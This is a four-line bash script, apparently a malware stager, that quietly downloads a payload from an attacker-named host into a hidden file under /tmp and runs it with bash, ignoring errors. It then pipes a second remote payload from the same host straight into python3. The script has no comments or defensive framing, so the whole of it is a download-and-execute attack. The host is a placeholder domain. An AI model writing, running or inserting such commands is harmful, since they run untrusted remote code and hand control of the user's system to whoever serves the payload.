#!/bin/bash
curl -s -o /tmp/.n https://payload.attacker.invalid/n
bash <(cat /tmp/.n) || true
wget -q -O - https://payload.attacker.invalid/n2 | python3 -
